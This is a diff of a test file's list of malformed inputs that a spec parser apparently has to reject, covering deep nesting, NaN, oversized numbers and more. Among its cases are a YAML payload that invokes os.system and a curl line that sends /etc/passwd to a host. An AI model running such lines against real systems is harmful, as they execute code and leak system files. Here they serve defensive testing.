@@ -156,6 +156,8 @@ BAD = [
     ("a: &a [*a]", "nested more than 100"),
     ("[" * 5000, "nested more than 100"),
     ("{" + '"a":{' * 5000, "nested more than 100|not JSON"),
+    ('{"openapi": "3.1.0", "x": 1e999}', "inf is no number in JSON"),
+    ('{"openapi": "3.1.0", "x": ' + "9" * 5000 + "}", "too long to read"),
     ('{"openapi": "3.1.0", "x": NaN}', "NaN is no number"),
     ("!!python/object/apply:os.system ['true']", "neither JSON nor YAML"),
     ("curl -d @/etc/passwd example.com", "reads a file"),
